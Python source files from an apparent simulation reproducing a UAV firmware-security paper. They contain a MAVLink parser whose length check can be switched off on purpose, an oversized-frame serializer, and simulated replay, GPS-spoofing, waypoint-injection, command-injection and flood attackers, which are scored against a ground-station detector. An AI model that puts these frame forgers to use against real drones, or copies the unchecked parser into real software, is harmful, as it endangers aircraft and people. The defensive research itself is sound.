Table I fixes the function counts (ArduPlane 917, ArduCopter 1030,
ArduRover 800); Table III fixes the stock code sizes.  The remaining knobs
(prologue users, caller pairs) shape the stock-vs-MAVR toolchain size delta
the way §VII-B2 reports: the custom toolchain produces *slightly smaller*
binaries.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class AppManifest:
    """Everything needed to deterministically regenerate one application."""

    name: str
    function_count: int  # functions in the MAVR (no shared blocks) build
    stock_code_size: int  # exact bytes of the stock build (Table III)
    seed: int
    prologue_user_count: int = 10  # fillers with >=4 callee saves
    local_caller_pairs: int = 150  # adjacent caller->callee filler pairs
    switch_function_count: int = 40
    early_ret_count: int = 30
    task_count: int = 8
    text_fraction: float = 0.94  # share of the stock size budgeted to .text


ARDUPLANE = AppManifest(
    name="arduplane",
    function_count=917,
    stock_code_size=221_608,
    seed=0x41505031,  # "APP1"
    prologue_user_count=2,
    local_caller_pairs=190,
    switch_function_count=45,
)

ARDUCOPTER = AppManifest(
    name="arducopter",
    function_count=1030,
    stock_code_size=244_532,
    seed=0x41505032,
    prologue_user_count=4,
    local_caller_pairs=240,
    switch_function_count=50,
)

ARDUROVER = AppManifest(
    name="ardurover",
    function_count=800,
    stock_code_size=177_870,
    seed=0x41505033,
    prologue_user_count=3,
    local_caller_pairs=160,
    switch_function_count=38,
)

# Small app for fast unit/integration tests: same structure, 60 functions.
TESTAPP = AppManifest(
    name="testapp",
    function_count=60,
    stock_code_size=16_384,
    seed=0x54455354,  # "TEST"
    prologue_user_count=4,
    local_caller_pairs=10,
    switch_function_count=5,
    early_ret_count=4,
)

ALL_APPS = (ARDUPLANE, ARDUCOPTER, ARDUROVER)
PAPER_FUNCTION_COUNTS = {  # Table I
    "arduplane": 917,
    "arducopter": 1030,
    "ardurover": 800,
}
PAPER_STOCK_SIZES = {  # Table III, stock column
    "arduplane": 221_608,
    "arducopter": 244_532,
    "ardurover": 177_870,
}
PAPER_MAVR_SIZES = {  # Table III, MAVR column
    "arduplane": 221_294,
    "arducopter": 244_292,
    "ardurover": 177_556,
}
PAPER_STARTUP_MS = {  # Table II
    "arduplane": 19_209,
    "arducopter": 21_206,
    "ardurover": 15_412,
}


def manifest_by_name(name: str) -> AppManifest:
    for manifest in ALL_APPS + (TESTAPP,):
        if manifest.name == name:
            return manifest
    raise KeyError(f"unknown application: {name}")
