"""Streaming MAVLink parser (byte-at-a-time state machine).

Two operating modes:

* ``length_check=True`` — a correct receiver: the declared length byte
  bounds the payload and malformed/oversized frames are dropped.
* ``length_check=False`` — the paper's injected vulnerability (§IV-B):
  *"we disabled the length check within the MAVLink buffer"*.  The parser
  accumulates every byte after the frame header, regardless of the declared
  length, until the UART burst ends (:meth:`StreamParser.flush`), modelling
  the unbounded copy into the receive buffer that makes the stack overflow
  possible.  One burst = one frame, which is how the exploit is delivered.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import List, Optional

from .checksum import frame_checksum
from .messages import ALL_MESSAGES
from .packet import CHECKSUM_LENGTH, HEADER_LENGTH, MAGIC, Packet


class _State(Enum):
    IDLE = "idle"
    HEADER = "header"
    PAYLOAD = "payload"
    CHECKSUM = "checksum"


@dataclass
class ParserStats:
    """Counters a ground station can alarm on."""

    frames_ok: int = 0
    frames_bad_crc: int = 0
    frames_unknown_type: int = 0
    bytes_dropped: int = 0
    oversized_frames: int = 0


class StreamParser:
    """Incremental frame extractor over a raw byte stream.

    When a :class:`~repro.telemetry.Telemetry` handle is given, the
    parser's counters are published into its metrics registry as
    ``mavlink.parser.*`` gauges — sampled at snapshot time (pull-style),
    so the per-byte state machine pays nothing for the instrumentation.
    """

    def __init__(self, length_check: bool = True, telemetry=None) -> None:
        self.length_check = length_check
        self.stats = ParserStats()
        self._state = _State.IDLE
        self._buffer = bytearray()
        self._declared_length = 0
        if telemetry is not None:
            telemetry.collect_object(
                "mavlink.parser",
                self.stats,
                (
                    "frames_ok", "frames_bad_crc", "frames_unknown_type",
                    "bytes_dropped", "oversized_frames",
                ),
                component="mavlink",
            )

    def push(self, data: bytes) -> List[Packet]:
        """Feed bytes; return every complete packet they finish."""
        packets: List[Packet] = []
        for byte in data:
            packet = self._push_byte(byte)
            if packet is not None:
                packets.append(packet)
        return packets

    def _push_byte(self, byte: int) -> Optional[Packet]:
        if self._state is _State.IDLE:
            if byte == MAGIC:
                self._buffer = bytearray([byte])
                self._state = _State.HEADER
            else:
                self.stats.bytes_dropped += 1
            return None

        self._buffer.append(byte)

        if self._state is _State.HEADER:
            if len(self._buffer) == HEADER_LENGTH:
                self._declared_length = self._buffer[1]
                self._state = (
                    _State.PAYLOAD if self._declared_length else _State.CHECKSUM
                )
            return None

        if self._state is _State.PAYLOAD:
            payload_seen = len(self._buffer) - HEADER_LENGTH
            if self.length_check:
                if payload_seen == self._declared_length:
                    self._state = _State.CHECKSUM
                return None
            # vulnerable mode: accumulate until the burst ends (flush)
            return None

        # CHECKSUM state
        expected = HEADER_LENGTH + self._declared_length + CHECKSUM_LENGTH
        if len(self._buffer) == expected:
            frame = bytes(self._buffer)
            self._reset()
            return self._finish(frame)
        return None

    def flush(self) -> Optional[Packet]:
        """End-of-stream: in vulnerable mode, emit the oversized tail frame."""
        if self.length_check or self._state is not _State.PAYLOAD:
            self._reset()
            return None
        frame = bytes(self._buffer)
        self._reset()
        return self._finish_vulnerable(frame)

    def _reset(self) -> None:
        self._state = _State.IDLE
        self._buffer = bytearray()
        self._declared_length = 0

    def _finish(self, frame: bytes) -> Optional[Packet]:
        msgid = frame[5]
        if msgid not in ALL_MESSAGES:
            self.stats.frames_unknown_type += 1
            return None
        crc_extra = ALL_MESSAGES[msgid].crc_extra
        checksum = frame_checksum(frame[1:-2], crc_extra)
        wire = frame[-2] | (frame[-1] << 8)
        if checksum != wire:
            self.stats.frames_bad_crc += 1
            return None
        self.stats.frames_ok += 1
        return Packet(
            seq=frame[2], sysid=frame[3], compid=frame[4], msgid=msgid,
            payload=frame[HEADER_LENGTH:-CHECKSUM_LENGTH],
        )

    def _finish_vulnerable(self, frame: bytes) -> Packet:
        """Oversized frame in vulnerable mode: delivered without any check.

        Everything after the header — including what would have been the
        checksum — is handed to the consumer as payload, exactly the bytes
        the unchecked ``memcpy`` would have written.
        """
        self.stats.frames_ok += 1
        payload = frame[HEADER_LENGTH:]
        if len(payload) > frame[1] + CHECKSUM_LENGTH:
            self.stats.oversized_frames += 1
        return Packet(
            seq=frame[2], sysid=frame[3], compid=frame[4], msgid=frame[5],
            payload=payload,
        )
