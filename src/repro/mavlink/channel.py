"""Serial byte channel with baud-rate timing.

Connects the ground station to the UAV's USART.  The same timing model
backs :mod:`repro.hw.serialbus` (master-processor programming link): at
``baud`` with 8N1 framing each byte costs 10 bit times, which at the
paper's 115200 baud gives 11.52 bytes/ms — the figure behind Table II.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass
from typing import Deque

BITS_PER_BYTE_8N1 = 10  # start + 8 data + stop


@dataclass(frozen=True)
class LinkTiming:
    """Throughput model for an asynchronous serial link."""

    baud: int = 115_200

    @property
    def bytes_per_ms(self) -> float:
        return self.baud / BITS_PER_BYTE_8N1 / 1000.0

    def transfer_ms(self, n_bytes: int) -> float:
        """Milliseconds to move ``n_bytes`` across the link."""
        if n_bytes < 0:
            raise ValueError("negative byte count")
        return n_bytes / self.bytes_per_ms

    def transfer_seconds(self, n_bytes: int) -> float:
        return self.transfer_ms(n_bytes) / 1000.0


class SerialChannel:
    """Bidirectional byte queue pair with accumulated transfer time.

    Wire-byte totals per direction are kept as plain attributes and, when
    a :class:`~repro.telemetry.Telemetry` handle is given, published into
    its registry as ``mavlink.channel.*`` gauges sampled at snapshot time.
    """

    def __init__(self, timing: LinkTiming = LinkTiming(), telemetry=None) -> None:
        self.timing = timing
        self._to_uav: Deque[int] = deque()
        self._to_gcs: Deque[int] = deque()
        self.elapsed_ms = 0.0
        self.bytes_to_uav = 0
        self.bytes_to_gcs = 0
        if telemetry is not None:
            telemetry.collect_object(
                "mavlink.channel",
                self,
                ("bytes_to_uav", "bytes_to_gcs", "elapsed_ms"),
                component="mavlink",
            )

    def send_to_uav(self, data: bytes) -> None:
        self._to_uav.extend(data)
        self.bytes_to_uav += len(data)
        self.elapsed_ms += self.timing.transfer_ms(len(data))

    def send_to_gcs(self, data: bytes) -> None:
        self._to_gcs.extend(data)
        self.bytes_to_gcs += len(data)
        self.elapsed_ms += self.timing.transfer_ms(len(data))

    def drain_uav_side(self) -> bytes:
        """Bytes waiting at the UAV (its USART receive queue)."""
        data = bytes(self._to_uav)
        self._to_uav.clear()
        return data

    def drain_gcs_side(self) -> bytes:
        """Bytes waiting at the ground station."""
        data = bytes(self._to_gcs)
        self._to_gcs.clear()
        return data
