"""MAVLink protocol-tier attacks: link injection vs the GCS detector.

The memory tier (``repro.attack``) exploits the *firmware's* vulnerable
receive buffer; this tier attacks the *link* itself with well-formed (or
deliberately malformed) MAVLink frames, the threat model of the
ArduPilot control-layer security analyses in the related work: replay,
GPS spoofing, waypoint injection, command injection, flood/DoS.

A :class:`ProtocolSession` owns one simulated engagement:

* one :class:`~repro.mavlink.channel.SerialChannel` shared by the whole
  fleet (N boards, one ground station — the swarm topology),
* deterministic benign traffic (heartbeats, a PARAM_SET and a
  MISSION_ITEM per board, GLOBAL_POSITION_INT reports synthesized from
  each board's flight state),
* an optional :class:`ProtocolAttacker` injecting frames into either
  direction, seeded only from the spec (``random.Random`` over a string
  seed — stable across processes, the campaign determinism contract),
* a host-side :class:`UplinkModel` — the *correct*, length-checking
  receive stack a patched firmware would run — that decides which
  injected frames a UAV would actually accept, and
* one :class:`~repro.uav.groundstation.GcsAnomalyDetector` tapping both
  directions, whose verdict is scored against each attack kind's
  ``expected_anomalies`` from the registry.

Attack frames deliberately do *not* enter the simulated AVR firmware's
USART: that receive path is the paper's memory-corruption surface, and
feeding protocol chaff through it would conflate the two tiers.  The
boards keep flying (and emitting their 0xA5 telemetry, which each
station's :class:`~repro.uav.groundstation.GroundStation` still
monitors) while the MAVLink engagement plays out on the channel model.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

# NOTE: repro.uav.groundstation imports mavlink submodules at module
# level, so the uav classes are imported lazily here to keep the
# packages' __init__ modules cycle-free.
from .channel import SerialChannel
from .messages import (
    COMMAND_LONG,
    GLOBAL_POSITION_INT,
    HEARTBEAT,
    MISSION_ITEM,
    PARAM_SET,
)
from .packet import Packet, build
from .parser import StreamParser

GCS_SYSID = 255
#: benign traffic cadence (ticks)
HEARTBEAT_EVERY = 5
POSITION_EVERY = 4
#: MAV_CMD ids used by the scripted traffic
CMD_NAV_WAYPOINT = 16
CMD_RETURN_TO_LAUNCH = 20
#: extra per-window rate headroom granted per additional fleet board
RATE_HEADROOM_PER_BOARD = 5
#: GCS-believed-vs-actual deviation that counts as a spoofing effect (m)
SPOOF_EFFECT_M = 25.0
#: uplink share above which a flood counts as link saturation
FLOOD_SATURATION = 0.5


def mission_item_frame(
    frame_seq: int,
    *,
    target_system: int,
    mission_seq: int,
    x: float,
    y: float,
    current: int = 0,
    sysid: int = GCS_SYSID,
) -> bytes:
    """Build a MISSION_ITEM frame.

    Done by hand because the message's payload field ``seq`` (mission
    sequence) collides with :func:`build`'s frame-sequence keyword.
    """
    payload = MISSION_ITEM.pack(
        param1=0.0, param2=0.0, param3=0.0, param4=0.0,
        x=x, y=y, z=100.0,
        seq=mission_seq, command=CMD_NAV_WAYPOINT,
        target_system=target_system, target_component=0,
        frame=0, current=current, autocontinue=1,
    )
    return Packet(
        seq=frame_seq, sysid=sysid, compid=0,
        msgid=MISSION_ITEM.msg_id, payload=payload,
    ).to_bytes()


class FrameStore:
    """Captured benign frames, in capture order (the replay corpus)."""

    def __init__(self) -> None:
        self.frames: List[bytes] = []

    def capture(self, frame: bytes) -> None:
        self.frames.append(frame)

    def __len__(self) -> int:
        return len(self.frames)

    def pick(self, rng: random.Random) -> bytes:
        return self.frames[rng.randrange(len(self.frames))]


class UplinkModel:
    """What a *correct* UAV receive stack would accept off the uplink.

    Length-checking parser, CRC enforced — the patched counterpart of
    the paper's vulnerable firmware.  Tracks the semantic state injected
    commands would reach: parameters, mission lists, commanded modes,
    plus exact-duplicate acceptance (the replay attack's effect).
    """

    def __init__(self, sysids: Sequence[int]) -> None:
        self.sysids = tuple(sysids)
        self.parser = StreamParser(length_check=True)
        self.params: Dict[Tuple[int, int], float] = {}
        self.missions: Dict[int, List[Tuple[int, float, float, int]]] = {}
        self.modes: Dict[int, int] = {}
        self.heartbeats = 0
        self.accepted = 0
        self.duplicates = 0
        self._seen: set = set()

    def _targets(self, target_system: int) -> Tuple[int, ...]:
        if target_system == 0:  # broadcast
            return self.sysids
        if target_system in self.sysids:
            return (target_system,)
        return ()

    def ingest(self, data: bytes) -> None:
        for packet in self.parser.push(data):
            self.accepted += 1
            key = (
                packet.sysid, packet.compid, packet.seq, packet.msgid,
                bytes(packet.payload),
            )
            if key in self._seen:
                self.duplicates += 1
            else:
                self._seen.add(key)
            if packet.msgid == HEARTBEAT.msg_id:
                self.heartbeats += 1
                continue
            values = packet.decode()
            if packet.msgid == PARAM_SET.msg_id:
                for sysid in self._targets(int(values["target_system"])):
                    self.params[(sysid, int(values["param_index"]))] = (
                        values["param_value"]
                    )
            elif packet.msgid == MISSION_ITEM.msg_id:
                for sysid in self._targets(int(values["target_system"])):
                    self.missions.setdefault(sysid, []).append((
                        int(values["seq"]), values["x"], values["y"],
                        int(values["command"]),
                    ))
            elif packet.msgid == COMMAND_LONG.msg_id:
                for sysid in self._targets(int(values["target_system"])):
                    self.modes[sysid] = int(values["command"])


class ProtocolAttacker:
    """Base class: deterministic frame injection, one direction or both."""

    name = "attacker"

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.frames_sent = 0
        self.bytes_sent = 0

    def _count(self, frames: List[bytes]) -> List[bytes]:
        self.frames_sent += len(frames)
        self.bytes_sent += sum(len(f) for f in frames)
        return frames

    def uplink_frames(self, tick: int, session: "ProtocolSession") -> List[bytes]:
        return []

    def downlink_frames(self, tick: int, session: "ProtocolSession") -> List[bytes]:
        return []

    def effect(self, session: "ProtocolSession") -> Tuple[bool, dict]:
        return False, {}


class ReplayAttacker(ProtocolAttacker):
    """Re-send captured benign GCS frames verbatim.

    The frames are bit-perfect (CRC included), so only statefulness can
    catch them: the re-used sequence numbers fall out of phase with the
    live GCS counter.  Effect: the correct receive stack accepts an
    exact duplicate of a frame it already consumed.
    """

    name = "replay"

    def __init__(self, rng: random.Random) -> None:
        super().__init__(rng)
        self.interval = rng.randint(3, 6)

    def uplink_frames(self, tick: int, session: "ProtocolSession") -> List[bytes]:
        start = min(30, session.total_ticks // 3)
        if tick < start or (tick - start) % self.interval or not session.store:
            return []
        return self._count([session.store.pick(self.rng)])

    def effect(self, session: "ProtocolSession") -> Tuple[bool, dict]:
        duplicates = session.uplink.duplicates
        return duplicates > 0, {"duplicates_accepted": duplicates}


class GpsSpoofAttacker(ProtocolAttacker):
    """Forge GLOBAL_POSITION_INT downlink claiming the target's sysid.

    Each forged report drifts the claimed position a fixed step further
    from the truth; the GCS's belief (last report wins) walks away from
    the actual track.  The detector has no ground truth — it flags the
    implied teleport speed between consecutive claims.
    """

    name = "gps_spoof"

    def __init__(self, rng: random.Random) -> None:
        super().__init__(rng)
        angle = rng.uniform(0.0, 2.0 * math.pi)
        self.step = rng.uniform(6.0, 18.0)
        self.direction = (math.sin(angle), math.cos(angle))
        self.reports = 0
        self._seq = rng.randrange(256)

    def downlink_frames(self, tick: int, session: "ProtocolSession") -> List[bytes]:
        # ride the target's own report cadence: the forged frame lands
        # right after the genuine one each cycle, so last-report-wins
        # leaves the GCS holding the forgery
        if tick < 10 or (tick - session.target.index) % POSITION_EVERY:
            return []
        self.reports += 1
        target = session.target
        state = target.board.autopilot.flight.state
        drift = self.step * self.reports
        x = state.x + self.direction[0] * drift
        y = state.y + self.direction[1] * drift
        frame = session.position_frame(
            target.sysid, x, y, seq=self._seq
        )
        self._seq = (self._seq + 1) & 0xFF
        session.claimed[target.sysid] = (x, y)
        return self._count([frame])

    def effect(self, session: "ProtocolSession") -> Tuple[bool, dict]:
        target = session.target
        claimed = session.claimed.get(target.sysid)
        if claimed is None:
            return False, {"deviation_m": 0.0}
        state = target.board.autopilot.flight.state
        deviation = math.hypot(claimed[0] - state.x, claimed[1] - state.y)
        return deviation > SPOOF_EFFECT_M, {
            "deviation_m": round(deviation, 3),
        }


class WaypointInjectAttacker(ProtocolAttacker):
    """Append rogue MISSION_ITEM waypoints from a forged GCS identity."""

    name = "waypoint_inject"

    def __init__(self, rng: random.Random) -> None:
        super().__init__(rng)
        self.interval = rng.randint(8, 14)
        self._seq = rng.randrange(256)
        self._mission_seq = rng.randint(900, 4000)
        self.injected: List[Tuple[float, float]] = []

    def uplink_frames(self, tick: int, session: "ProtocolSession") -> List[bytes]:
        if tick < 20 or (tick - 20) % self.interval:
            return []
        x = round(self.rng.uniform(200.0, 900.0), 1)
        y = round(self.rng.uniform(200.0, 900.0), 1)
        frame = mission_item_frame(
            self._seq, target_system=session.target.sysid,
            mission_seq=self._mission_seq, x=x, y=y,
        )
        self._seq = (self._seq + 1) & 0xFF
        self._mission_seq += 1
        self.injected.append((x, y))
        return self._count([frame])

    def effect(self, session: "ProtocolSession") -> Tuple[bool, dict]:
        accepted = session.uplink.missions.get(session.target.sysid, [])
        legit = session.legit_waypoints
        rogue = [
            item for item in accepted if (item[1], item[2]) not in legit
        ]
        return bool(rogue), {"rogue_waypoints": len(rogue)}


class CommandInjectAttacker(ProtocolAttacker):
    """Forge a COMMAND_LONG (return-to-launch) from the GCS identity."""

    name = "command_inject"

    def __init__(self, rng: random.Random) -> None:
        super().__init__(rng)
        self.interval = rng.randint(10, 16)
        self._seq = rng.randrange(256)

    def uplink_frames(self, tick: int, session: "ProtocolSession") -> List[bytes]:
        if tick < 25 or (tick - 25) % self.interval:
            return []
        frame = build(
            COMMAND_LONG, seq=self._seq, sysid=GCS_SYSID,
            param1=0.0, param2=0.0, param3=0.0, param4=0.0,
            param5=0.0, param6=0.0, param7=0.0,
            command=CMD_RETURN_TO_LAUNCH,
            target_system=session.target.sysid, target_component=0,
            confirmation=0,
        ).to_bytes()
        self._seq = (self._seq + 1) & 0xFF
        return self._count([frame])

    def effect(self, session: "ProtocolSession") -> Tuple[bool, dict]:
        mode = session.uplink.modes.get(session.target.sysid)
        return mode == CMD_RETURN_TO_LAUNCH, {"commanded_mode": mode}


class FloodAttacker(ProtocolAttacker):
    """Saturate the uplink: bursts of valid and CRC-corrupt frames."""

    name = "flood"

    def __init__(self, rng: random.Random) -> None:
        super().__init__(rng)
        self.rate = rng.randint(4, 12)  # frames per tick once started

    def uplink_frames(self, tick: int, session: "ProtocolSession") -> List[bytes]:
        if tick < 10:
            return []
        frames: List[bytes] = []
        for i in range(self.rate):
            frame = build(
                HEARTBEAT, seq=self.rng.randrange(256), sysid=254,
                custom_mode=0, type=1, autopilot=3, base_mode=81,
                system_status=4, mavlink_version=3,
            ).to_bytes()
            if i % 4 == 3:  # corrupt every fourth frame's CRC
                frame = frame[:-1] + bytes([frame[-1] ^ 0xFF])
            frames.append(frame)
        return self._count(frames)

    def effect(self, session: "ProtocolSession") -> Tuple[bool, dict]:
        total = session.channel.bytes_to_uav
        share = self.bytes_sent / total if total else 0.0
        return share > FLOOD_SATURATION, {
            "uplink_share": round(share, 3),
        }


_ATTACKERS = {
    cls.name: cls
    for cls in (
        ReplayAttacker, GpsSpoofAttacker, WaypointInjectAttacker,
        CommandInjectAttacker, FloodAttacker,
    )
}

PROTOCOL_ATTACK_NAMES = tuple(_ATTACKERS)


def make_attacker(name: str, rng: random.Random) -> ProtocolAttacker:
    try:
        cls = _ATTACKERS[name]
    except KeyError:
        raise ValueError(
            f"unknown protocol attack {name!r}; "
            f"expected one of {PROTOCOL_ATTACK_NAMES}"
        ) from None
    return cls(rng)


@dataclass
class ProtocolOutcome:
    """What one protocol engagement produced (all deterministic)."""

    kind: Optional[str]
    expected_anomalies: Tuple[str, ...]
    attack_frames: int
    attack_bytes: int
    benign_frames: int
    effect: bool
    effect_detail: dict
    detected: bool
    flagged: Tuple[str, ...]
    detector: dict
    link_lost: bool
    telemetry_frames: int
    statuses: Tuple[str, ...]

    def record(self) -> dict:
        """JSON-ready verdict for the campaign record's ``detector`` key."""
        return {
            "kind": self.kind,
            "expected": list(self.expected_anomalies),
            "flagged": list(self.flagged),
            "detected": self.detected,
            "attack_frames": self.attack_frames,
            "attack_bytes": self.attack_bytes,
            "benign_frames": self.benign_frames,
            "effect_detail": self.effect_detail,
            **self.detector,
        }


class _Station:
    """One fleet member: board + its 0xA5-telemetry ground monitor."""

    def __init__(self, index: int, board) -> None:
        from ..uav.groundstation import GroundStation

        self.index = index
        self.board = board
        self.sysid = index + 1
        self.monitor = GroundStation()
        self.telemetry_frames = 0
        self._seq = 0

    def next_seq(self) -> int:
        seq = self._seq
        self._seq = (self._seq + 1) & 0xFF
        return seq


class ProtocolSession:
    """One GCS ⇄ fleet MAVLink engagement with deterministic scheduling.

    Per tick, in fixed order: benign uplink (heartbeat round + the
    per-board PARAM_SET/MISSION_ITEM script) → attacker uplink → the
    UAV-side drain feeds the detector and the correct-receiver model →
    each board flies one tick (its 0xA5 telemetry going to its own
    monitor) → benign position downlink per board → attacker downlink →
    the GCS-side drain feeds the detector.  Every byte on the channel is
    a deterministic function of (specs, attack seed), which is what lets
    swarm campaign records stay byte-identical across job counts.
    """

    def __init__(
        self,
        boards: Sequence,
        attacker: Optional[ProtocolAttacker] = None,
        *,
        attack_board: int = 0,
        watch_every: int = 5,
        telemetry=None,
    ) -> None:
        from ..uav.groundstation import GcsAnomalyDetector

        if not boards:
            raise ValueError("a protocol session needs at least one board")
        self.stations = [
            _Station(index, board) for index, board in enumerate(boards)
        ]
        if not 0 <= attack_board < len(self.stations):
            raise ValueError(
                f"attack_board {attack_board} out of range for "
                f"{len(self.stations)} boards"
            )
        self.target = self.stations[attack_board]
        self.attacker = attacker
        self.watch_every = watch_every
        self.channel = SerialChannel()
        self.store = FrameStore()
        self.uplink = UplinkModel([s.sysid for s in self.stations])
        self.detector = GcsAnomalyDetector(
            rate_limit=(
                GcsAnomalyDetector.RATE_LIMIT_PER_WINDOW
                + RATE_HEADROOM_PER_BOARD * (len(self.stations) - 1)
            ),
            telemetry=telemetry,
        )
        self.claimed: Dict[int, Tuple[float, float]] = {}
        self.legit_waypoints: set = set()
        self.benign_frames = 0
        self.total_ticks = 0
        self._gcs_seq = 0

    # -- frame helpers ----------------------------------------------------

    def _next_gcs_seq(self) -> int:
        seq = self._gcs_seq
        self._gcs_seq = (self._gcs_seq + 1) & 0xFF
        return seq

    def position_frame(
        self, sysid: int, x: float, y: float, seq: Optional[int] = None
    ) -> bytes:
        """A GLOBAL_POSITION_INT report claiming planar position (x, y)."""
        from ..uav.groundstation import POSITION_UNITS_PER_M

        return build(
            GLOBAL_POSITION_INT,
            seq=seq if seq is not None else 0,
            sysid=sysid,
            time_boot_ms=0,
            lat=int(round(y * POSITION_UNITS_PER_M)),
            lon=int(round(x * POSITION_UNITS_PER_M)),
            alt=100_000, relative_alt=100_000,
            vx=0, vy=0, vz=0, hdg=0,
        ).to_bytes()

    def _send_up(self, frame: bytes, benign: bool) -> None:
        self.channel.send_to_uav(frame)
        if benign:
            self.benign_frames += 1
            self.store.capture(frame)

    def _send_down(self, frame: bytes, benign: bool) -> None:
        self.channel.send_to_gcs(frame)
        if benign:
            self.benign_frames += 1

    # -- engagement -------------------------------------------------------

    def run(self, ticks: int) -> None:
        self.total_ticks = ticks
        for tick in range(ticks):
            self.detector.begin_tick(tick)
            self._benign_uplink(tick)
            if self.attacker is not None:
                for frame in self.attacker.uplink_frames(tick, self):
                    self._send_up(frame, benign=False)
            uplink_bytes = self.channel.drain_uav_side()
            self.detector.observe("up", uplink_bytes)
            self.uplink.ingest(uplink_bytes)
            for station in self.stations:
                station.board.run(1, self.watch_every)
                frames = station.monitor.ingest(
                    station.board.autopilot.transmitted_bytes()
                )
                station.telemetry_frames += len(frames)
            self._benign_downlink(tick)
            if self.attacker is not None:
                for frame in self.attacker.downlink_frames(tick, self):
                    self._send_down(frame, benign=False)
            self.detector.observe("down", self.channel.drain_gcs_side())

    def _benign_uplink(self, tick: int) -> None:
        if tick % HEARTBEAT_EVERY == 0:
            self._send_up(build(
                HEARTBEAT, seq=self._next_gcs_seq(), sysid=GCS_SYSID,
                custom_mode=0, type=6, autopilot=3, base_mode=81,
                system_status=4, mavlink_version=3,
            ).to_bytes(), benign=True)
        for station in self.stations:
            if tick == 2 + 2 * station.index:
                self._send_up(build(
                    PARAM_SET, seq=self._next_gcs_seq(), sysid=GCS_SYSID,
                    param_value=4.0, target_system=station.sysid,
                    target_component=0, param_index=7, param_type=9,
                ).to_bytes(), benign=True)
            if tick == 3 + 2 * station.index:
                x, y = 50.0 + 10.0 * station.index, 120.0
                self.legit_waypoints.add((x, y))
                self._send_up(mission_item_frame(
                    self._next_gcs_seq(), target_system=station.sysid,
                    mission_seq=0, x=x, y=y, current=1,
                ), benign=True)

    def _benign_downlink(self, tick: int) -> None:
        for station in self.stations:
            if (tick - station.index) % POSITION_EVERY == 0:
                state = station.board.autopilot.flight.state
                self._send_down(self.position_frame(
                    station.sysid, state.x, state.y, seq=station.next_seq(),
                ), benign=True)
                self.claimed[station.sysid] = (state.x, state.y)

    # -- verdict ----------------------------------------------------------

    def outcome(
        self, kind: Optional[str], expected: Tuple[str, ...]
    ) -> ProtocolOutcome:
        flagged = self.detector.flagged_kinds()
        if self.attacker is not None:
            effect, detail = self.attacker.effect(self)
            detected = any(k in flagged for k in expected)
            frames, attack_bytes = (
                self.attacker.frames_sent, self.attacker.bytes_sent
            )
        else:
            # benign session: any anomaly at all is a false alarm
            effect, detail = False, {}
            detected = bool(flagged)
            frames = attack_bytes = 0
        return ProtocolOutcome(
            kind=kind,
            expected_anomalies=tuple(expected),
            attack_frames=frames,
            attack_bytes=attack_bytes,
            benign_frames=self.benign_frames,
            effect=effect,
            effect_detail=detail,
            detected=detected,
            flagged=flagged,
            detector=self.detector.snapshot(),
            link_lost=any(s.monitor.link_lost for s in self.stations),
            telemetry_frames=sum(s.telemetry_frames for s in self.stations),
            statuses=tuple(
                s.board.autopilot.status.value for s in self.stations
            ),
        )


def session_rng(kind: Optional[str], attack_seed: int) -> random.Random:
    """Cross-process-stable RNG for one engagement (string seeding uses
    SHA-512 internally, never Python's randomized ``hash``)."""
    return random.Random(f"mavlink-attack:{kind}:{attack_seed}")


def run_protocol_attack(
    spec,
    boards: Sequence,
    kind: str,
    expected_anomalies: Tuple[str, ...],
    telemetry=None,
) -> ProtocolOutcome:
    """Play one protocol attack kind against already-warmed boards.

    ``spec`` supplies ``attack_seed``/``observe_ticks``/``watch_every``
    (and, for swarm specs, ``attack_board``); the boards must already be
    booted and past warmup — the scenario layer owns that lifecycle.
    """
    attacker = make_attacker(kind, session_rng(kind, spec.attack_seed))
    session = ProtocolSession(
        boards,
        attacker,
        attack_board=getattr(spec, "attack_board", 0),
        watch_every=spec.watch_every,
        telemetry=telemetry,
    )
    session.run(spec.observe_ticks)
    return session.outcome(kind, tuple(expected_anomalies))


def run_benign_session(spec, boards: Sequence, telemetry=None) -> ProtocolOutcome:
    """The same engagement with no attacker (false-alarm measurement)."""
    session = ProtocolSession(
        boards, None, watch_every=spec.watch_every, telemetry=telemetry,
    )
    session.run(spec.observe_ticks)
    return session.outcome(None, ())
