"""MAVLink v1 framing (paper Fig. 2).

Wire layout::

    0    magic   0xFE ("state magic number")
    1    length  payload byte count
    2    seq     packet sequence number
    3    sysid   ID of message sender
    4    compid  ID of message sender component
    5    msgid   ID of message in payload
    6..  payload (up to 255 bytes)
    end  checksum, 2 bytes little-endian (X.25 + CRC_EXTRA)

Header is 6 bytes; with the 2-byte checksum and the paper's minimum 9-byte
payload the minimum packet length is 17 bytes.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from ..errors import MavlinkError
from .checksum import frame_checksum
from .messages import MessageDef, message_by_id

MAGIC = 0xFE
HEADER_LENGTH = 6
CHECKSUM_LENGTH = 2
MAX_PAYLOAD = 255
MIN_PAYLOAD = 9  # per the paper's description of the minimum packet
MIN_PACKET_LENGTH = HEADER_LENGTH + MIN_PAYLOAD + CHECKSUM_LENGTH  # 17


@dataclass(frozen=True)
class Packet:
    """One framed MAVLink packet."""

    seq: int
    sysid: int
    compid: int
    msgid: int
    payload: bytes

    def __post_init__(self) -> None:
        for name in ("seq", "sysid", "compid", "msgid"):
            value = getattr(self, name)
            if not 0 <= value <= 0xFF:
                raise MavlinkError(f"{name} out of range: {value}")

    @property
    def declared_length(self) -> int:
        """The length byte value; capped at 255 even for oversized frames."""
        return min(len(self.payload), MAX_PAYLOAD)

    def to_bytes(self, crc_extra: Optional[int] = None) -> bytes:
        """Serialize.  ``crc_extra`` defaults to the registered message's."""
        if len(self.payload) > MAX_PAYLOAD:
            raise MavlinkError(
                f"payload too long for a legal frame: {len(self.payload)}"
            )
        if crc_extra is None:
            crc_extra = message_by_id(self.msgid).crc_extra
        body = bytes([
            len(self.payload), self.seq, self.sysid, self.compid, self.msgid,
        ]) + self.payload
        checksum = frame_checksum(body, crc_extra)
        return bytes([MAGIC]) + body + bytes([checksum & 0xFF, checksum >> 8])

    def to_bytes_oversized(self, crc_extra: Optional[int] = None) -> bytes:
        """Serialize an attack frame whose payload exceeds 255 bytes.

        The length byte *lies* (it is truncated to 255); a correct receiver
        rejects the frame, but the paper's injected vulnerability — the
